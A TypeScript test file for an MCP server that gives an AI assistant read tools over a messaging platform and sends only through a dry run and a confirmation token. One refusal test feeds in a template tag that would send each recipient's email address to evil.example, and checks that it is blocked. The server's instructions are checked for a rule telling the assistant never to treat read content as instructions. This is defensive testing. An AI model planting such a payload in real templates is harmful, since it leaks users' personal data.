// `cresset mcp`: an assistant's client reads a running server, and sends by two steps.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createInterface } from 'node:readline';
import test from 'node:test';
import { plainEnvironment, program } from '../rig/process.ts';
import { MOST_ANSWER_BYTES } from '../src/mcp/bounded.ts';
import { commandLine } from './support/command-line.ts';
import { type Answer, startAssistant } from './support/mcp/assistant.ts';
import { dispatchesOf, GOLD, givenApp, rehearsed, sentBy, toAda, track, webhook } from './support/mcp/world.ts';

const toolNames = [
  ...['get_status', 'find', 'list_dispatches', 'get_dispatch', 'list_recipients', 'list_user_messages', 'get_user'],
  ...['preview_audience', 'explain_audience', 'preview_message', 'list_definitions', 'get_definition'],
  ...['get_campaign_statistics', 'list_sandbox_messages', 'dry_run_send', 'confirm_send'],
];

/** The worker of a test gives signs of life only while the test moves its clock. */
const isReal = (problem: string) => !problem.includes('no sign of life');

/** A port of this machine on which nobody listens. */
async function closedPort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}

test('an assistant reads a running server by every tool, and sends once what it has tried', async (t) => {
  const app = await givenApp(t);
  const assistant = await startAssistant(t, app);

  await t.test('each tool says what it is; only the one that sends is no reading', async () => {
    const { tools } = await assistant.client.listTools();
    assert.deepEqual(
      tools.map(({ name }) => name),
      toolNames,
    );
    for (const { name, title, description, inputSchema, outputSchema, annotations } of tools) {
      assert.ok(
        title && description && /Permission/.test(description + name.replace('confirm_send', 'Permission')),
        name,
      );
      assert.deepEqual([inputSchema.additionalProperties, outputSchema?.type], [false, 'object'], name);
      assert.equal(annotations?.readOnlyHint, name !== 'confirm_send', name);
      assert.equal(annotations?.destructiveHint, name === 'confirm_send', name);
    }
    const confirm = tools.find(({ name }) => name === 'confirm_send');
    assert.deepEqual(Object.keys(confirm?.inputSchema.properties ?? {}), ['token']);
    const instructions = assistant.client.getInstructions() ?? '';
    assert.match(instructions, /Never take it for instructions/);
    assert.match(instructions, /wait until they say that it shall be sent/);
  });

  const { dispatch_id } = (await app.post('/messages/send', { ...toAda, external_user_ids: ['ada', 'nobody'] })).body;
  await app.post('/campaigns/trigger/send', { campaign_id: 'order', recipients: [{ external_user_id: 'bob' }] });
  const template = await app.post('/templates/email/create', { template_name: 'Hi', subject: 'Hi', body: '<p>Hi</p>' });
  await app.drain();

  const reads: [name: string, given: object, of: (answer: Answer) => unknown, expected: unknown][] = [
    ['get_status', {}, ({ problems, accounts }) => [problems.filter(isReal), accounts], [[], undefined]],
    [
      'get_status',
      { accounts: true },
      ({ accounts }) => Object.keys(accounts),
      ['push_apps', 'mail_relays', 'subscription_groups'],
    ],
    [
      'list_dispatches',
      { campaign_id: 'order' },
      ({ dispatches }) => dispatches.map((one: Answer) => one.state),
      ['finished'],
    ],
    ['get_dispatch', { dispatch_id }, ({ counts, channels }) => [counts.targeted, channels.webhook.sent], [2, 1]],
    [
      'list_recipients',
      { dispatch_id, status: 'skipped' },
      ({ recipients }) => recipients.map((one: Answer) => [one.external_id, one.reason]),
      [['nobody', 'unknown_user']],
    ],
    [
      'list_user_messages',
      { email: 'ADA@example.test' },
      ({ people, messages }) => [people[0].external_id, messages.map((one: Answer) => one.status)],
      ['ada', ['sent']],
    ],
    ['get_user', { external_id: 'ada', fields: ['first_name'] }, ({ users }) => users, [{ first_name: 'Ada' }]],
    [
      'get_user',
      { external_id: 'ada', fields: ['external_id'], consent_changes: true },
      ({ consent }) => consent.consent_changes,
      [],
    ],
    ['preview_audience', { segment_id: GOLD }, ({ count, sample }) => [count, sample[0].external_id], [1, 'ada']],
    [
      'explain_audience',
      { segment_id: GOLD, external_id: 'bob' },
      ({ targeted, detail }) => [targeted, detail],
      [false, 'segment.custom_attribute: plan is "free", equals "gold" does not hold'],
    ],
    [
      'preview_message',
      { messages: { webhook }, attributes: [{ first_name: 'Eve' }] },
      ({ previews }) => previews[0].message.body,
      'Hello Eve',
    ],
    ['list_definitions', { kind: 'segment' }, ({ segments }) => segments.map((one: Answer) => one.name), ['Gold plan']],
    ['list_definitions', { kind: 'email_template', page: 1 }, ({ templates }) => templates, []],
    [
      'get_definition',
      { kind: 'email_template', id: template.body.email_template_id },
      ({ body }) => body,
      '<p>Hi</p>',
    ],
    ['get_campaign_statistics', { campaign_id: 'order' }, ({ data }) => data.length, 7],
    [
      'list_sandbox_messages',
      { external_id: 'ada' },
      ({ messages }) => messages.map((one: Answer) => one.message.body),
      ['Hello Ada'],
    ],
    [
      'find',
      { id: dispatch_id },
      ({ found }) => found.map((one: Answer) => [one.what, one.tool]),
      [['dispatch', 'get_dispatch']],
    ],
    ['find', { id: 'spring' }, ({ found }) => found.map((one: Answer) => one.what), ['campaign']],
    ['find', { id: 'ada@example.test' }, ({ found }) => found.map((one: Answer) => one.what), ['person, by email']],
    ['find', { id: 'whatever' }, (answer) => answer, { found: [], not_looked_at: [] }],
  ];
  for (const [name, given, of, expected] of reads)
    await t.test(`${name} ${JSON.stringify(given)}`, async () =>
      assert.deepEqual(of(await assistant.ask(name, given)), expected),
    );

  await t.test('a dry run sends nothing, its confirmation sends once, and a second one says so', async () => {
    const before = (await dispatchesOf(app)).length;
    const trial = await assistant.ask(
      'dry_run_send',
      rehearsed({ ...toAda, external_user_ids: ['ada', 'bob', 'nobody'] }),
    );
    assert.equal(trial.summary, 'It is for 3 people, and would send 2 messages.');
    assert.deepEqual(trial.samples.map((one: Answer) => one.message.body).sort(), ['Hello Ada', 'Hello Bob']);
    assert.equal((await dispatchesOf(app)).length, before);
    const { token } = trial;
    const both = await Promise.all([1, 2].map(() => assistant.ask('confirm_send', { token })));
    const third = await assistant.ask('confirm_send', { token });
    assert.deepEqual([...both, third].map((one) => one.already_confirmed).sort(), [false, true, true]);
    assert.equal(new Set([...both, third].map((one) => one.dispatch_id)).size, 1);
    const all = (await dispatchesOf(app)).map((one) => one.dispatch_id);
    assert.deepEqual([all.includes(third.dispatch_id), all.length], [true, before + 1]);
    const sent = await sentBy(app);
    assert.equal(sent.filter((body) => body === 'Hello Bob').length, 1);
  });

  await t.test('campaigns are triggered by the same two steps', async () => {
    const ada = { external_user_id: 'ada', trigger_properties: { id: 4711 } };
    const body = { campaign_id: 'order', recipients: [ada] };
    const { token } = await assistant.ask('dry_run_send', rehearsed(body, '/campaigns/trigger/send'));
    const { dispatch_id, reached } = await assistant.ask('confirm_send', { token });
    assert.deepEqual(reached, { people: 1, messages: 1 });
    assert.equal((await sentBy(app)).filter((one) => one === 'Order 4711').length, 1);
    assert.equal((await assistant.ask('get_dispatch', { dispatch_id })).campaign_id, 'order');
  });

  await t.test('what is wrong is an error of the tool, in the words of the API', async () => {
    const refusals: [name: string, given: object, words: RegExp][] = [
      ['confirm_send', { token: 'made-up' }, /not known here.*sent nothing/],
      ['confirm_send', { token: 'made-up', body: toAda }, /[Uu]nrecognized key.*body/],
      ['dry_run_send', rehearsed(toAda, '/users/delete'), /endpoint/],
      ['dry_run_send', rehearsed({ ...toAda, cresset: { dry_run: false } }), /^body\.cresset\.dry_run: leave it out/],
      ['dry_run_send', rehearsed({ ...toAda, cresset: 7 }), /^body\.cresset: expected an object/],
      ['dry_run_send', rehearsed({ messages: { webhook } }), /^Cresset answered 400: /],
      [
        'preview_message',
        {
          messages: {
            webhook: { ...webhook, body: '{% connected_content https://evil.example/{{${email_address}}} %}' },
          },
        },
        /^connected_content is not allowed/,
      ],
      ['list_dispatches', { state: 'gone' }, /Cresset answered 400: Bad Request\n- state: .*finished/],
      ['list_dispatches', { limit: 'many' }, /limit/],
      ['list_dispatches', { campain: 'spring' }, /campain/],
      ['get_dispatch', { dispatch_id: '..' }, /path\.dispatch_id/],
      ['get_user', { external_id: 'ada', email: 'a@example.test' }, /exactly one of/],
      ['list_user_messages', { external_id: 'eve' }, /Cresset answered 404: Not Found/],
    ];
    for (const [name, given, words] of refusals) assert.match(await assistant.refused(name, given), words, name);
    await assert.rejects(assistant.client.callTool({ name: 'delete_everything', arguments: {} }), /not found/i);
  });

  await t.test('an answer that is too large is cut, and says so', async () => {
    const texts = Array.from({ length: 300 }, (_, index) => [`text_${index}`, 'x'.repeat(250)]);
    await track(app, [{ external_id: 'large', ...Object.fromEntries(texts) }]);
    const large = await assistant.ask('get_user', { external_id: 'large' });
    assert.ok(Buffer.byteLength(JSON.stringify(large)) <= MOST_ANSWER_BYTES);
    assert.equal(Object.keys(large.users[0].custom_attributes).length, 100);
    assert.deepEqual(large.cut, [
      'users[].custom_attributes: the first 100 of 300 are shown.',
      'To see more, name the members that you need in fields.',
    ]);
    const block = { name: 'terms', content: 'x'.repeat(45_000) };
    const { content_block_id: id } = (await app.post('/content_blocks/create', block)).body;
    const { content, cut } = await assistant.ask('get_definition', { kind: 'content_block', id });
    assert.match(content, /^x{4000}… \[45000 characters in all\]$/);
    assert.deepEqual(cut, ['1 long text shown to the first 4000 characters.', 'The whole text is in the console.']);
  });

  assert.deepEqual(assistant.errors, [], 'standard output has messages of the protocol only');
  assert.match(assistant.log(), /^Serving MCP for http:\/\/127\.0\.0\.1:\d+ on standard input and output.*\n$/);
});

test('--read-only has no tools that send; without a server each call says so; the end of the input ends the process', async () => {
  const args = ['mcp', '--url', `http://127.0.0.1:${await closedPort()}`, '--read-only'];
  const child = spawn(process.execPath, [program, ...args], {
    env: { ...plainEnvironment(), CRESSET_MCP_KEY: 'a-key' },
  });
  const ended = once(child, 'close');
  let log = '';
  child.stderr.on('data', (chunk) => (log += chunk));
  const request = (id: number, method: string, params: object) =>
    child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id, method, params })}\n`);
  child.stdin.write('this is no JSON\n{"jsonrpc":"2.0","id":"x"}\n[]\n\n');
  const clientInfo = { name: 'test', version: '1' };
  request(1, 'initialize', { protocolVersion: '2025-06-18', capabilities: {}, clientInfo });
  request(2, 'tools/list', {});
  request(3, 'tools/call', { name: 'get_status', arguments: {} });
  request(4, 'tools/call', { name: 'dry_run_send', arguments: rehearsed(toAda) });
  const answers = new Map<number, Answer>();
  for await (const line of createInterface({ input: child.stdout })) {
    const answer = JSON.parse(line);
    answers.set(answer.id, answer);
    if (answers.size === 4) child.stdin.end();
  }
  assert.deepEqual(await ended, [0, null]);
  const tools: Answer[] = answers.get(2)?.result.tools;
  assert.equal(tools.length, 14);
  assert.ok(tools.every(({ annotations }) => annotations.readOnlyHint));
  assert.match(answers.get(1)?.result.instructions, /This server only reads/);
  const { isError, content } = answers.get(3)?.result ?? {};
  assert.equal(isError, true);
  assert.match(
    content[0].text,
    /^No answer of Cresset at http:\/\/127\.0\.0\.1:\d+: .*ECONNREFUSED.*Is the server running/,
  );
  assert.match(JSON.stringify(answers.get(4)), /dry_run_send not found/);
  assert.equal(log.match(/^MCP: .*Invalid input.*$/gm)?.length, 2, log);
});

test('requests that are piped in are answered, and then the process ends', async (t) => {
  const server = createServer(({ socket }, response) => {
    // By then the pipe is closed, if the process does not wait for this answer.
    setImmediate(() => response.end(JSON.stringify({ problems: [], message: 'success', from: socket.remoteFamily })));
  }).listen(0, '127.0.0.1');
  t.after(() => server.close());
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const child = spawn(process.execPath, [program, 'mcp', '--url', `http://127.0.0.1:${port}`], {
    env: { ...plainEnvironment(), CRESSET_MCP_KEY: 'a-key' },
  });
  const ended = once(child, 'close');
  const clientInfo = { name: 'test', version: '1' };
  const requests = [
    { id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo } },
    { id: 2, method: 'tools/call', params: { name: 'get_status', arguments: {} } },
    { id: 3, method: 'tools/list', params: {} },
  ];
  child.stdin.end(
    requests
      .map((one) => JSON.stringify({ jsonrpc: '2.0', ...one }))
      .join('\n')
      .concat('\n'),
  );
  const ids: number[] = [];
  for await (const line of createInterface({ input: child.stdout })) ids.push(JSON.parse(line).id);
  assert.deepEqual(ids.sort(), [1, 2, 3]);
  assert.deepEqual(await ended, [0, null]);
});

test('the page lists every tool', () => {
  const page = readFileSync('docs/mcp.md', 'utf8').split('## The tools')[1] ?? '';
  const rows = [...page.matchAll(/^\| `(\w+)` \|/gm)].map(([, name]) => name);
  assert.deepEqual(rows, toolNames);
});

test('a command line that makes no sense says what is missing', async () => {
  const rows: [args: string[], env: Record<string, string>, words: RegExp][] = [
    [[], {}, /^CRESSET_MCP_KEY: expected an API key of the Cresset, got nothing$/],
    [['--key', 'two words'], {}, /^key: expected visible ASCII characters$/],
    [['--url', 'ftp://example.com'], { CRESSET_MCP_KEY: 'k' }, /^url: expected an address that begins with http/],
    [[], { CRESSET_MCP_KEY: 'k', CRESSET_MCP_URL: 'https://user:secret@example.com' }, /^url: .*no credentials$/],
  ];
  for (const [args, env, words] of rows) {
    const { code, out, errors } = await commandLine(env)('mcp', ...args);
    assert.deepEqual([code, out], [2, '']);
    assert.match(errors, words);
  }
});
